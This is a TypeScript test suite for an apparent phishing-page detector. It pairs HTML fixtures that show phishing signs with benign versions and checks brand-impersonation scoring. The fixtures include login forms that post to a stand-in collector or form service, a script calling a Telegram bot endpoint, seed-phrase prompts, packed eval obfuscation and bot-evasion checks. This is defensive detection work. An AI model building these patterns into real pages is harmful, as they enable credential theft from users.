import { describe, expect, test } from 'bun:test';
import { readVisitedPage } from '#src/analyzers/page/page-reading.ts';
import { type PageFeatureName, pageAnalyzer } from '#src/analyzers/page.ts';
import type { CertificateInfo } from '#src/certificate/info.ts';
import { featuresOf, subjectOf } from './features-of.ts';

const LOGIN =
  '<form method=post action=/session><input name=u><input type=password name=p><button>Sign in</button></form>';
const NAV = Array.from({ length: 6 }, (_, i) => `<a href=/page-${i}>Page ${i}</a>`).join(' ');

const CERTIFICATE: CertificateInfo = {
  trusted: true,
  faults: [],
  subject: 'CN=some-host.test',
  issuer: 'CN=Some Authority',
  sans: ['some-host.test'],
  sanCount: 1,
  validFrom: '2026-01-01T00:00:00.000Z',
  validTo: '2026-03-01T00:00:00.000Z',
  daysRemaining: 30,
  ageDays: 30,
  key: 'EC P-256',
  signatureAlgorithm: 'ecdsa-with-SHA256',
  fingerprintSha256: '00'.repeat(32),
  chain: [],
  protocol: 'TLSv1.3',
};

/** A page written for each sign, and the same page without what makes the sign. */
const PAGES: readonly (readonly [PageFeatureName, string, string])[] = [
  [
    'page.asks_as_foreign_brand',
    `<title>Log in to Paywell</title>${LOGIN}<p>© 2026 Paywell Inc.`,
    `<title>Paywell</title><p>© 2026 Paywell Inc.`,
  ],
  [
    'page.foreign_brand',
    '<title>Paywell</title><form><input type=email name=e><button>Next</button></form>© Paywell',
    '<title>Mail</title><form><input type=email name=e><button>Next</button></form>',
  ],
  ['page.posts_to_other_site', LOGIN.replace('/session', 'https://collect.test/in'), LOGIN],
  ['page.posts_unencrypted', LOGIN.replace('/session', 'http://some-host.test/in'), LOGIN],
  ['page.posts_to_form_service', LOGIN.replace('/session', 'https://formspree.io/f/abc'), LOGIN],
  [
    'page.posts_to_bot',
    `${LOGIN}<script>fetch("https://api.telegram.org/bot12:AB/sendMessage", {})</script>`,
    `${LOGIN}<a href="https://t.me/our_channel">Telegram</a>`,
  ],
  ['page.posts_to_kit_script', LOGIN.replace('/session', 'next.php'), LOGIN.replace('/session', '/account/login.php')],
  [
    'page.saved_copy',
    `<!-- saved from url=(0028)https://login.paywell.example/x -->${LOGIN}`,
    `<!-- saved from url=(0028)https://some-host.test/old -->${LOGIN}`,
  ],
  ['page.saved_folder', `<img src="./Log in_files/logo.png">${LOGIN}`, `<img src="/files/logo.png">${LOGIN}`],
  [
    'page.belongs_elsewhere',
    `<link rel=canonical href=https://other-bank.test/login>${LOGIN}`,
    `<link rel=canonical href=https://some-host.test/login>${LOGIN}`,
  ],
  [
    'page.links_to_one_other_site',
    `${NAV.replaceAll('href=/', 'href=https://other-bank.test/')}${LOGIN}`,
    `${NAV}${LOGIN}`,
  ],
  [
    'page.dead_links',
    `${LOGIN}<a href=#>Help</a><a href=#>Terms</a><a href=javascript:;>Privacy</a>`,
    `${LOGIN}${NAV}`,
  ],
  ['page.names_nobody', LOGIN, `<h1>Some-Host</h1>${LOGIN}`],
  [
    'page.nameless_title',
    `<title>Sign in to your account</title>${LOGIN}`,
    `<title>Sign in to Some-Host</title>${LOGIN}`,
  ],
  ['page.bare_login', LOGIN, `${LOGIN}<p>${'A long text about what this is. '.repeat(20)}`],
  [
    'page.fields_over_picture',
    '<img src=bg.png><form action=/s><input type=password style="position: absolute; top: 9px"></form>',
    '<img src=bg.png><form action=/s><input type=password></form>',
  ],
  ['page.many_password_forms', LOGIN.repeat(4), LOGIN.repeat(2)],
  [
    'page.mail_provider_choice',
    `<p>Choose: Gmail, Outlook, Yahoo, <img src=4.png alt=AOL><img src=5.png alt="Other mail">${LOGIN}`,
    `<p>Write to our Gmail or Outlook address${LOGIN}`,
  ],
  [
    'page.preset_email',
    LOGIN.replace('name=u', 'name=u value=anna@corp.test'),
    LOGIN.replace('name=u', 'name=u value=anna'),
  ],
  [
    'page.asks_seed_phrase',
    '<textarea placeholder="Enter your 12-word recovery phrase"></textarea>',
    '<textarea placeholder=Comment>',
  ],
  [
    'page.asks_many_secrets',
    '<form><input name=card_number><input name=cvv><input name=ssn><input type=password></form>',
    '<form><input name=card_number><input name=cvv></form>',
  ],
  ['page.frames_other_site', '<iframe src=https://other-bank.test/login></iframe>', '<iframe src=/inner></iframe>'],
  [
    'page.spelled_title',
    `<title>&#83;&#105;&#103;&#110; &#73;&#110;</title>${LOGIN}`,
    `<title>Sign In &#169; M&#252;ller</title>${LOGIN}`,
  ],
  ['page.spelled_text', `<p>${'&#65;&#66;&#67;&#68;'.repeat(12)}`, `<p>${'ABCD'.repeat(12)}`],
  [
    'page.encoded_markup',
    '<script>document.write(unescape("%3Cform%3E%3Cinput%20type%3Dpassword%3E"))</script>',
    '<script>document.write("<form><input type=password>")</script>',
  ],
  [
    'page.obfuscated_script',
    `${LOGIN}<script>eval(function(p,a,c,k,e,d){return p}("0",1,1,[]))</script>`,
    `${LOGIN}<script>function a(p){return p}</script>`,
  ],
  ['page.blocks_inspection', `<body oncontextmenu="return false">${LOGIN}`, `<body>${LOGIN}`],
  [
    'page.looks_for_bots',
    `${LOGIN}<script>if (navigator.webdriver) location = "/"</script>`,
    `${LOGIN}<script>start()</script>`,
  ],
  [
    'page.hidden_text',
    `${LOGIN}<div style="display:none">${'other words '.repeat(60)}</div>`,
    `${LOGIN}<div>${'other words '.repeat(60)}</div>`,
  ],
  [
    'page.look_alike_words',
    `<title>Document Validati0n</title>${LOGIN}`,
    `<title>Document Validation 2026 v10</title>${LOGIN}`,
  ],
  ['page.urgency', `<h1>Your account has been suspended</h1>${LOGIN}`, `<h1>Your account</h1>${LOGIN}`],
  ['page.not_seen_whole', `<p>${'long '.repeat(450_000)}`, `<p>${'long '.repeat(1000)}`],
  ['page.padded', `<!--${'pad '.repeat(600_000)}-->${LOGIN}`, `<!--${'pad '.repeat(400_000)}-->${LOGIN}`],
  ['page.at_home', '<a href=/one>1</a><a href=/two>2</a>', '<a href=/one>1</a><a href=/one#top>2</a>'],
  ['page.kit_mark', '<title>Leaf PHPMailer</title>', '<title>Leaf of paper</title>'],
];

describe('each sign is seen where it is, and only there', () => {
  test.each(PAGES)('%s', (name, present, absent) => {
    const feature = featuresOf(present)[name];
    expect(feature?.value).toBeGreaterThan(0);
    expect(feature?.value).toBeLessThanOrEqual(1);
    expect(feature?.message).toMatch(/^[A-Z].{15,}[^.]$/);
    expect(featuresOf(absent)[name]).toBeUndefined();
  });

  test('every feature has such a page', () => {
    const elsewhere: PageFeatureName[] = ['page.own_brand', 'page.own_brand_clone'];
    expect([...PAGES.map(([name]) => name), ...elsewhere].sort()).toEqual([...pageAnalyzer.features].sort());
  });
});

test('a page that was not read is no evidence at all', () => {
  const subject = subjectOf('');
  const skipped = { state: 'skipped', reason: 'disabled' } as const;
  expect(readVisitedPage({ ...subject, observations: { page: skipped } })).toBeNull();
  const { page } = subject.observations;
  if (page.state !== 'observed') throw new Error('the page was not read');
  const noHtml = { ...page, value: { ...page.value, document: null } };
  expect(readVisitedPage({ ...subject, observations: { page: noHtml } })).toBeNull();
  expect(pageAnalyzer.analyze({ page: null })).toBeNull();
});

test('a lone script says the less, the more ordinary its name', () => {
  const strengthOf = (action: string) =>
    featuresOf(LOGIN.replace('/session', action))['page.posts_to_kit_script']?.value;
  const values = [
    'next.php',
    'kit/next.php',
    'https://some-host.test/kit/next.php',
    'hqpz.php',
    'login.php',
    'https://other.test/next.php',
  ].map(strengthOf);
  expect(values).toEqual([1, 0.6, 0.6, 0.5, 0.25, undefined]);
});

test.each([
  'Sign In',
  'Anmelden',
  'Se connecter',
  'Iniciar sesión',
  'Войти',
  'ログイン',
  '로그인',
  '邮箱登录',
  'Webmail :: Login 2026',
])('%s names nobody', (title) => {
  expect(featuresOf(`<title>${title}</title>${LOGIN}`)['page.nameless_title']).toBeDefined();
  expect(featuresOf(`<title>${title} Acme</title>${LOGIN}`)['page.nameless_title']).toBeUndefined();
});

describe('a brand is claimed', () => {
  const claimed = (html: string, url?: string) => featuresOf(html, url)['page.asks_as_foreign_brand']?.value ?? 0;

  test('the more surely, the more places show it', () => {
    const title = `<title>Paywell</title>`;
    const foot = '<footer>© 2026 Paywell</footer>';
    const icon = '<link rel=icon href=https://www.paywell-static.example/favicon.ico>';
    const values = [title, title + foot, title + foot + icon].map((html) => claimed(html + LOGIN));
    expect(values).toEqual(values.toSorted((a, b) => a - b));
    expect(values[0]).toBeLessThan(values[2] ?? 0);
  });

  test.each([
    '<p>Paywell © 2026',
    '<p>© 2026 Paywell',
    '<p>Copyright 2024 Paywell Inc. All rights reserved',
    '<meta property=og:site_name content=Paywell>',
    '<title>Welcome to Paywell</title>',
    '<title>Log in - Line</title>',
    '<link rel=canonical href=https://www.paywell.example/login>',
    '<link rel=stylesheet href=https://static.paywell-static.example/look.css>',
  ])('by %s', (html) => {
    expect(claimed(`${html}\n${LOGIN}`)).toBeGreaterThan(0.4);
  });

  test.each(['Paywe11', 'Раywell', 'Payvvell'])('also where it is spelt %s', (name) => {
    const features = featuresOf(`<title>${name}</title>${LOGIN}`);
    expect(features['page.asks_as_foreign_brand']?.value).toBeGreaterThan(0.5);
    expect(features['page.look_alike_words']?.message).toContain('Paywell');
  });

  test('and it is its own site', () => {
    const features = featuresOf(`<title>Paywell</title>${LOGIN}© Paywell`, 'https://www.paywell.example/');
    expect(features['page.asks_as_foreign_brand']).toBeUndefined();
    expect(features['page.own_brand']?.message).toContain('Paywell');
    expect(readVisitedPage(subjectOf('<title>Paywell</title>', 'https://paywell.example/'))?.claim).toMatchObject({
      brand: { name: 'Paywell' },
      isOwn: true,
    });
  });

  test('by a page on another brand’s site only where strangers publish there', () => {
    const html = `<title>First Harbour Bank</title>${LOGIN}© First Harbour Bank`;
    expect(claimed(html, 'https://www.paywell.example/')).toBe(0);
    expect(claimed(html, 'https://forms.paywell.example/f/1')).toBeGreaterThan(0.8);
  });

  test('and a trusted certificate says whose site it is', () => {
    const html = `<title>Paywell</title>${LOGIN}© Paywell`;
    const ownOf = (part: Partial<CertificateInfo>, host = 'some-host.test') => {
      const subject = subjectOf(html, `https://${host}/`);
      const certificate = { state: 'observed', value: { ...CERTIFICATE, ...part }, elapsedMs: 0 } as const;
      return readVisitedPage({ ...subject, observations: { ...subject.observations, certificate } })?.claim?.isOwn;
    };
    expect(ownOf({})).toBe(false);
    expect(ownOf({ sans: ['some-host.test', '*.paywell.example'] })).toBe(true);
    expect(ownOf({ subject: 'CN=some-host.test, O=Paywell\\, Inc., C=US' })).toBe(true);
    expect(ownOf({ sans: ['some-host.test', '*.paywell.example'], trusted: false })).toBe(false);
    const network = Array.from({ length: 20 }, (_, i) => `customer-${i}.test`);
    expect(ownOf({ sans: ['www.paywell.example', ...network] })).toBe(false);
  });

  test('by a host that carries its name, which is a guise and no mention', () => {
    const html = `<title>Paywell</title>${LOGIN}© Paywell`;
    expect(claimed(html, 'https://paywell-login.test/')).toBeGreaterThan(0.8);
  });

  test('also on a host whose name is made of words that every login page says', () => {
    const html = `<title>Paywell</title><h1>Secure login: verify your account</h1>${LOGIN}© Paywell`;
    for (const host of ['secure-login.test', 'securelogin.test', 'verify-account24.test']) {
      expect(claimed(html, `https://${host}/`)).toBeGreaterThan(0.8);
    }
  });

  test('hardly, where the page names the site that it is on', () => {
    const html = `<title>Pay with Paywell – Shoes by Anna</title>${LOGIN}<p>© 2026 Shoesbyanna`;
    expect(claimed(html, 'https://shoesbyanna.test/')).toBeLessThan(0.35);
  });

  test('not by buttons that offer to sign in with it', () => {
    const html = `<title>Shoes by Anna</title>${LOGIN}<button><img alt="Paywell logo" src=p.svg>Continue with Paywell</button>`;
    expect(claimed(html, 'https://shoesbyanna.test/')).toBe(0);
  });

  test('not by an ordinary word that is a brand too', () => {
    expect(claimed(`<title>Our new line of shoes</title>${LOGIN}`)).toBe(0);
  });
});
